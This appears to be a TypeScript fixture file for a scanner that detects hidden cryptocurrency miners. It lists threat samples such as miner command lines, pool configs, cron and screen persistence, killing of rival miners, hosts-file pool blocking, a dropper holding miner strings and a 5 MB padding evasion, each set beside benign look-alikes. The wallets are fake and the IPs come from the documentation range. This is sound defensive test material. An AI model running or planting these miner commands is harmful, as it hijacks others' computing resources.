/** Miner disguises and look-alikes beyond test/malware-disguises.test.ts's own (see kit.ts). */
import {
  bin,
  fakeElf,
  fakeMoneroWallet,
  pseudoRandom,
  sample,
  text,
  type RuleSamples,
  type Sample,
} from './kit.js';

const threat = sample('miner');
const clean = sample(undefined);

// Made-up wallets of the right shape and a documentation-range pool.
const BASE58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';
const BECH32 = 'qpzry9x8gf2tvdw0s3jn54khce6mua7l';
const pick = (alphabet: string, n: number, seed: string) =>
  [...pseudoRandom(n, seed)].map((b) => alphabet[b % alphabet.length]).join('');
const XMR = fakeMoneroWallet('miner-area');
const ETH = `0x${pseudoRandom(20, 'miner-eth').toString('hex')}`;
const BTC = `bc1q${pick(BECH32, 38, 'miner-btc')}`;
const BTC_LEGACY = `1${pick(BASE58, 33, 'miner-btc1')}`;
const RVN = `R${pick(BASE58, 33, 'miner-rvn')}`;
const ZEPH = `ZEPH${pick(BASE58, 94, 'miner-zeph')}`;
const DERO = `dero1${pick(BECH32, 58, 'miner-dero')}`;
const IP = '198.51.100.3';
const sh = (body: string) => `#!/bin/sh\n${body}\n`;
const elf = (...strings: string[]) => fakeElf(`\0${strings.join('\0')}\0`);

export const THREATS: Sample[] = [
  // XMRig command lines without a Monero wallet
  threat('pool, worker login, -p x -k --tls', 'proxy.sh', sh(`./svc -o ${IP}:3333 -u worker1 -p x -k --tls`)),
  threat(
    '--url= --user=ETH --pass=x --coin=XMR',
    'run.sh',
    sh(`./svc --url=${IP}:3333 --user=${ETH} --pass=x -k --coin=XMR`),
  ),
  threat(
    '--donate-level=0 with its pool in a config file',
    'donate0.sh',
    sh('./svc --donate-level=0 -c /opt/a/c.json'),
  ),
  threat(
    'XMRig-only huge-page options',
    'hugepages.sh',
    sh('./svc --randomx-1gb-pages --huge-pages-jit -c c.json'),
  ),
  threat(
    'Python os.system with -k --coin monero',
    'py.py',
    `import os\nos.system('nohup ./svc -o ${IP}:3333 -u ${ETH} -k --coin monero &')\n`,
  ),
  threat(
    'cron line starting a renamed miner',
    'sys',
    `* * * * * root /opt/app/svc -o ${IP}:3333 -u w -p x -k\n`,
  ),
  threat(
    'Kubernetes args as a YAML list',
    'deploy.yaml',
    `spec:\n  containers:\n  - name: app\n    args:\n    - --url\n    - ${IP}:3333\n    - --user\n    - ${ETH}\n    - --coin\n    - monero\n`,
  ),
  threat(
    'started by name under screen, tmux and setsid',
    'screen.sh',
    sh(
      'screen -dmS w xmrig\ntmux new-session -d -s m "xmrig -c /etc/x.json"\nsetsid xmrig --config=/tmp/.x/c.json &',
    ),
  ),
  // list forms without spaces
  threat(
    'Node spawn list with --donate-level',
    'node.js',
    `const {spawn}=require('child_process');spawn('./svc',['-o','${IP}:3333','-u','${ETH}','-a','rx/0','--donate-level','1'],{detached:true});\n`,
  ),
  threat(
    'Node spawn list, -a rx/0 only',
    'node2.js',
    `const {spawn}=require('child_process');spawn('./svc',['-o','${IP}:3333','-u','${ETH}','-a','rx/0']);\n`,
  ),
  threat(
    'Perl system list with --coin and --cpu-priority',
    'perl.pl',
    `#!/usr/bin/perl\nsystem('./svc','-o','${IP}:3333','-u','${ETH}','--coin','monero','--cpu-priority','5');\n`,
  ),
  // other miners and coins
  threat(
    'lolMiner in mixed case',
    'lol.sh',
    sh(`./lolMiner --algo ETHASH --pool ${IP}:4444 --user ${ETH} --tls 0`),
  ),
  threat('ETCHASH --pool --user', 'lol2.sh', sh(`./svc --algo ETCHASH --pool ${IP}:4444 --user ${ETH}`)),
  threat(
    'PhoenixMiner -pool ssl:// -wal',
    'phoenix.sh',
    sh(`./svc -pool ssl://${IP}:5555 -wal ${ETH} -worker r1 -epsw x -coin etc`),
  ),
  threat(
    'GMiner --server --port',
    'gminer.sh',
    sh(`./svc --algo kawpow --server ${IP} --port 6060 --user ${RVN}.rig`),
  ),
  threat(
    'SRBMiner --algorithm --pool --wallet, Zephyr',
    'srb.sh',
    sh(`./svc --algorithm randomx --pool ${IP}:3333 --wallet ${ZEPH} --password w`),
  ),
  threat(
    'T-Rex octopus, BTC bech32 login',
    'trex.sh',
    sh(`./svc -a octopus -o ${IP}:5555 -u ${BTC} -p x -w rig`),
  ),
  threat(
    'cpuminer yespower over http://',
    'cpuminer.sh',
    sh(`./svc -a yespower -o http://${IP}:9998 -u ${BTC_LEGACY} -p c=BTC`),
  ),
  threat(
    'cpuminer lyra2z330, --url=http://',
    'cpuminer2.sh',
    sh(`./svc --algo=lyra2z330 --url=http://${IP}:3008 --user=${BTC_LEGACY}`),
  ),
  threat(
    'Dero miner: daemon address and dero1 wallet',
    'dero.sh',
    sh(`./svc --daemon-rpc-address ${IP}:10100 --wallet-address ${DERO} --mining-threads 4`),
  ),
  threat(
    'pool by --url host --port N',
    'port.sh',
    sh(`./svc --url pool.example-mining.test --port 443 -u ${ETH}`),
  ),
  threat('upper-case STRATUM+TCP://', 'upper.sh', sh(`./svc -o STRATUM+TCP://${IP}:3333 -u w`)),
  threat(
    'stratum+tcps:// on a .xyz pool',
    'rplant.sh',
    sh(`./svc -a yespowerr16 -o stratum+tcps://stratum-eu.rplant.xyz:17052 -u x`),
  ),
  threat('a pool on a .network domain', 'k.sh', sh('./svc -o xmr.kryptex.network:7029 -x')),
  threat(
    'a miner that blocks rival pools in /etc/hosts',
    'hosts.sh',
    sh(
      `cat >> /etc/hosts <<EOF\n127.0.0.1 pool.minexmr.com\n127.0.0.1 xmr.crypto-pool.fr\nEOF\n./svc -o xmr.2miners.com:2222 -x`,
    ),
  ),
  // Stratum spoken by a script
  threat(
    'Python Stratum v1 client',
    'pystratum.py',
    `import socket,json\ns=socket.create_connection(("${IP}",3333))\ns.send(json.dumps({"id":1,"method":"mining.subscribe","params":[]}).encode()+b"\\n")\ns.send(json.dumps({"id":2,"method":"mining.authorize","params":["w","x"]}).encode()+b"\\n")\n`,
  ),
  threat(
    'Python XMRig-dialect login',
    'pyxmrlogin.py',
    `import socket,json\ns=socket.create_connection(("${IP}",3333))\ns.send(json.dumps({"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"w","pass":"x","agent":"a"}}).encode())\n`,
  ),
  // binaries
  threat(
    'XMRig fork: banner and log lines, no donate strings',
    'xm',
    elf(
      ' * ABOUT        XMRig/%s %s',
      'use pool %s:%d %s',
      'new job from %s:%d diff %u algo %s height %u',
      'accepted (%lu/%lu) diff %lu (%lu ms)',
      'randomx',
    ),
  ),
  threat(
    'XMRig fork without banner',
    'xm2',
    elf('use pool %s:%d %s', 'new job from %s:%d diff %u', 'huge-pages-jit', 'rx/0'),
  ),
  threat('ccminer usage', 'ccmin', elf('Usage: ccminer [OPTIONS]', '-a, --algo=ALGO', '-o, --url=URL')),
  threat(
    'SRBMiner-MULTI banner',
    'srb',
    elf(
      'SRBMiner-MULTI CPU & AMD GPU Miner 2.4.4',
      '--algorithm randomx --pool %s --wallet %s',
      'stratum+tcps://',
    ),
  ),
  threat(
    'lolMiner banner',
    'lol',
    elf('lolMiner', '--algo', '--pool', '--user', 'ETHASH', 'Average speed (30s)'),
  ),
  threat(
    'T-Rex banner',
    'trex',
    elf('T-Rex NVIDIA GPU miner', 'kawpow', 'stratum+tcp', '-o, --url', '-u, --user'),
  ),
  threat('PhoenixMiner banner', 'phx', elf('PhoenixMiner', '-pool', '-wal', 'Eth: New job #%s from %s')),
  threat('GMiner banner', 'gmin', elf('GMiner', '--algo', '--server', '--user', 'Started Mining on GPU')),
  threat(
    'ethminer',
    'ethm',
    elf('ethminer', 'stratum1+tcp', 'eth_submitLogin', 'eth_getWork', 'mining.notify'),
  ),
  threat(
    'Stratum client without authorize',
    'nw',
    elf('mining.subscribe', 'mining.notify', 'mining.set_difficulty', 'mining.submit'),
  ),
  threat(
    'Go dropper holding an XMRig argument string',
    'dropper',
    elf('main.main', `-o ${IP}:3333 -u ${ETH} --donate-level 1 -a rx/0 --cpu-max-threads-hint 75`),
  ),
  threat(
    'Go dropper holding XMRig options one by one',
    'dropper2',
    elf('main.main', '/tmp/.x/kswapd0', `${IP}:3333`, 'rx/0', '--cpu-priority', '--donate-level'),
  ),
  // in-browser miners served from a web root
  threat(
    'webmr.js page: startMining with a known pool and a wallet',
    'index.html',
    `<html><body><script src="/js/webmr.js"></script><script>startMining("moneroocean.stream","${XMR}");</script></body></html>`,
  ),
  threat(
    'startMining with an IP pool and a wallet, no miner script named',
    'app.js',
    `window.onload = () => startMining("${IP}:3333", "${XMR}", "x", 2);\n`,
  ),
  threat(
    'webmr.js loaded, startMining with variables',
    'index.htm',
    `<script src="js/webmr.min.js"></script><script>var p = POOL, w = W; startMining(p, w);</script>`,
  ),
  threat(
    'CryptoNight WebAssembly miner started with a pool and a wallet',
    'm.html',
    `<script src="/lib/cryptonight.wasm.js"></script><script>var m=new Miner({pool:"${IP}:3333",wallet:"${ETH}",threads:4});m.start();</script>`,
  ),
  threat(
    'cn.wasm worker with a wallet option',
    'miner.js',
    `const w = new Worker("/static/cn.wasm.js");\nw.postMessage({ wallet: "${XMR}", threads: 2 });\n`,
  ),
  threat(
    'webminer script started with a pool',
    'page.html',
    `<script src="https://cdn.example.test/webminer-2.1.min.js"></script><script>new WebMiner({ poolUrl: "wss://proxy.example.test:8181", siteKey: "k" }).start();</script>`,
  ),
  threat(
    'a CoinHive-style client of another name with a site key',
    'site.js',
    "var c = new Nebula.Anonymous('abcdefghijklmnopqrstuvwx', {throttle: 0.3}); c.start();\n",
  ),
  // settings holding a known pool's host and a Monero wallet, the port a field of its own
  threat(
    'Python dataclass with pool, port and wallet fields',
    'dataclass.py',
    `from dataclasses import dataclass\n@dataclass\nclass Cfg:\n    xmr_pool: str = "pool.supportxmr.com"\n    xmr_port: int = 3333\n    xmr_address: str = "${XMR}"\n`,
  ),
  threat(
    'env file with pool host, port and wallet',
    'app.env',
    `POOL_HOST=gulf.moneroocean.stream\nPOOL_PORT=10128\nADDR=${XMR}\n`,
  ),
  // executables holding a wallet next to a pool option
  threat('ELF: --url then a wallet', 'dropper_wallet', elf('main.main', '--url', XMR, 'pool.example')),
  threat(
    'ELF: -o, pool, -u, wallet as C strings',
    'dropper_o',
    elf('main', '-o', `${IP}:3333`, '-u', `${XMR}.rig1`, '-p', 'x'),
  ),
  threat('ELF: wallet before --url', 'dropper_rev', elf('init', XMR, `${IP}:3333`, '--url')),
  threat(
    'ELF: an embedded XMRig pool entry',
    'dropper_json',
    elf('main', `{"url":"${IP}:3333","user":"${XMR}","pass":"x"}`),
  ),
  // host preparation
  threat(
    'RandomX MSR and huge-page tuning',
    'tune.sh',
    sh(
      'sysctl -w vm.nr_hugepages=1280\nmodprobe msr allow_writes=on\nwrmsr -a 0x1a4 0xf\nnohup ./svc -c c.json &',
    ),
  ),
  threat(
    'killing rival miners',
    'kill.sh',
    sh(
      'pkill -f xmrig\npkill -f kdevtmpfsi\nps aux | grep -v grep | grep "stratum" | awk \'{print $2}\' | xargs kill -9',
    ),
  ),
  // configs
  threat(
    'XMRig config with user before url',
    'config.json',
    `{\n "cpu": {"enabled": true, "huge-pages": true},\n "pools": [{"user": "${ETH}", "url": "${IP}:3333", "pass": "x", "keepalive": true}]\n}\n`,
  ),
  threat('SRBMiner pools', 'pools.txt', `{"pools":[{"pool":"${IP}:4444","wallet":"${ETH}","password":"x"}]}`),
  threat(
    'lolMiner config',
    'lol.json',
    `{"DEFAULTS":{"DEVICES":"AUTO"},"ETH":{"COIN":"ETH","POOLS":[{"POOL":"${IP}","PORT":"4444","USER":"${ETH}"}]}}`,
  ),
  threat(
    'escaped JSON written by echo',
    'escaped.sh',
    sh(
      `echo "{\\"pools\\":[{\\"url\\":\\"${IP}:3333\\",\\"user\\":\\"${ETH}\\"}],\\"donate-level\\":1}" > /tmp/.c.json\n./svc -c /tmp/.c.json`,
    ),
  ),
  threat(
    'YAML flow pools with donate-level',
    'c.yml',
    `pools: [{url: ${IP}:3333, user: ${ETH}}]\ndonate-level: 0\n`,
  ),
  threat('TOML [[pools]]', 'c.toml', `[[pools]]\nurl = "${IP}:3333"\nuser = "${ETH}"\ncoin = "monero"\n`),
  threat('nanominer INI with an ETH wallet', 'config.ini', `[Ethash]\nwallet=${ETH}\npool1=${IP}:4444\n`),
  threat(
    'XMRig daemon-mode pool',
    'config.json',
    `{"pools":[{"url":"daemon+http://${IP}:18081","daemon":true,"user":"w"}],"algo":"rx/0"}`,
  ),
  // a miner command line under more than 5 MB of comments
  threat(
    'a command line padded past 5 MB',
    'big.sh',
    sh(`./svc -o ${IP}:3333 -u w --donate-level 1 -a rx/0\n${`# ${'x'.repeat(78)}\n`.repeat(66000)}`),
  ),
];

export const LEGITIMATE: Sample[] = [
  clean(
    'a README with a donation address, sudo -u and a connection pool',
    'README.md',
    `# cool-lib\n\n    curl -sSL -o install.sh https://example.test/install.sh\n    sudo -u app sh install.sh\n\nUses a connection pool. See the thread pool.\n\n## Donate\n\nXMR: ${XMR}\n`,
  ),
  clean(
    'a README quoting a CLI with -o and --user, and a donation address',
    'README.md',
    `# cool-lib2\n\nRun \`node cli.js -o out.txt --user admin\`\n\n## Donations\nMonero (XMR): \`${XMR}\`\n`,
  ),
  clean(
    'a package.json with a funding wallet and tsc -o',
    'package.json',
    `{"name":"cool-lib3","funding":{"type":"monero","wallet":"${XMR}"},"scripts":{"build":"tsc -o dist"}}`,
  ),
  clean(
    'an unbound blocklist naming pools with ports',
    'blocklist.conf',
    'local-zone: "pool.supportxmr.com" always_nxdomain\nlocal-zone: "gulf.moneroocean.stream:10128" always_nxdomain\n',
  ),
  clean(
    'an adblock list naming pools',
    'nocoin.txt',
    '||coinhive.com^\n||supportxmr.com^\n*://*.moneroocean.stream:10128/*\n',
  ),
  clean(
    'gunicorn, celery and curl command lines',
    'start.sh',
    sh(
      'exec gunicorn -w 4 -k uvicorn.workers.UvicornWorker -b 0.0.0.0:8000 --user app app:main\ncelery -A proj worker --pool=prefork -O fair\ncurl -k -u admin:pw -o /tmp/out https://api.example.test:8443/x',
    ),
  ),
  clean(
    'a CLI with --url host:port and --user',
    'deploy.sh',
    sh(
      './cli --url http://registry.example.test:8080 --user admin --password "$PW"\n./tool -o db.example.test:5432 -u app',
    ),
  ),
  clean(
    'a commented-out donate option',
    'run.sh',
    sh('# never pass --donate-level 0 here\n// --huge-pages-jit\nexec ./server'),
  ),
  clean(
    'database huge pages and turbostat',
    'tune.sh',
    sh('sysctl -w vm.nr_hugepages=1024\nmodprobe msr\nturbostat --quiet sleep 1\npkill -f old-worker'),
  ),
  clean('a single kill of an exporter', 'stop.sh', sh('pkill -f xmrig-exporter\nexit 0')),
  clean(
    'docs of the Stratum protocol',
    'stratum.md',
    '# Stratum\n\nThe client sends `{"id":1,"method":"mining.subscribe","params":[]}` then `mining.authorize`.\n',
  ),
  clean(
    'pool configs of databases in JSON, YAML and TOML',
    'pools.toml',
    '[[pools]]\nurl = "db.internal:5432"\nuser = "app"\n',
  ),
  clean('a YAML pool list of databases', 'db.yml', 'pools: [{url: db.internal:5432, user: app}]\nmax: 10\n'),
  clean('a JSON pool with a name', 'pool.json', '{"pools":[{"pool":"db.internal:5432","name":"main"}]}\n'),
  clean(
    'a README showing webmr.js usage',
    'README.md',
    `# webmr\n\n\`\`\`html\n<script src="webmr.js"></script>\n<script>startMining("moneroocean.stream", "${XMR}");</script>\n\`\`\`\n`,
  ),
  clean(
    'a page about CryptoNight WebAssembly miners',
    'history.html',
    '<html><body><p>Sites once served cryptonight.wasm; blockers now stop it. Set the pool: in your app.</p></body></html>',
  ),
  clean(
    'an Ethereum dev tool starting its local miner',
    'chain.js',
    'export async function mine(node) { await node.startMining(); await provider.send("miner_start", []); }\n',
  ),
  clean('an anonymous auth client', 'auth.js', 'const a = new Auth.Anonymous(); a.start();\n'),
  clean(
    'a Python blocklist of pools',
    'blocklist.py',
    'BLOCKED = ["pool.supportxmr.com", "gulf.moneroocean.stream", "xmr.nanopool.org"]\n',
  ),
  clean(
    'a README with a pool name and a donation wallet',
    'README.md',
    `# xmr-tools\n\nTested against pool.supportxmr.com.\n\nDonate: ${XMR}\n`,
  ),
  clean(
    'a wallet tool binary: a wallet far from --url',
    'wallet-cli',
    elf(
      '--url',
      'http://node.example.test:18081',
      'usage: wallet-cli [options]',
      'transfer <address> <amount>',
      'donate',
      XMR,
    ),
  ),
  clean(
    'a binary with --url and no wallet',
    'fetch',
    elf('--url', 'https://example.test:8443', '-o', 'out.bin', '-u', 'admin'),
  ),
];

/** Samples of the rules this area adds to the pack. */
export const RULE_SAMPLES: Record<string, RuleSamples> = {
  'miner-pool-login': {
    positive: text(sh(`./svc -o ${IP}:3333 -u worker1 -p x -k`), 'run.sh'),
    negative: text(sh('./tool -o db.example.test:5432 -u app'), 'run.sh'),
  },
  'miner-stratum-client': {
    positive: text(
      `s.send(b'{"id":1,"method":"mining.subscribe","params":[]}')\ns.send(b'{"id":2,"method":"mining.authorize","params":["w","x"]}')\n`,
      'client.py',
    ),
    negative: text('# mining.subscribe and mining.authorize are Stratum methods\n', 'notes.md'),
  },
  'miner-host-preparation': {
    positive: text(sh('sysctl -w vm.nr_hugepages=1280\nwrmsr -a 0x1a4 0xf'), 'prep.sh'),
    negative: text(sh('sysctl -w vm.nr_hugepages=1024\nmodprobe msr'), 'prep.sh'),
  },
  'miner-pool-wallet-settings': {
    positive: text(`POOL = "pool.supportxmr.com"\nPORT = 3333\nWALLET_ADDRESS = "${XMR}"\n`, 'settings.py'),
    negative: text(
      'POOL = "pool.supportxmr.com"\nPORT = 3333\nWALLET_ADDRESS = os.environ["W"]\n',
      'settings.py',
    ),
  },
  'miner-wallet-dropper': {
    positive: bin(elf('main.main', '--url', `${IP}:3333`, XMR)),
    negative: bin(elf('main.main', '--url', `${IP}:3333`, 'admin')),
  },
};
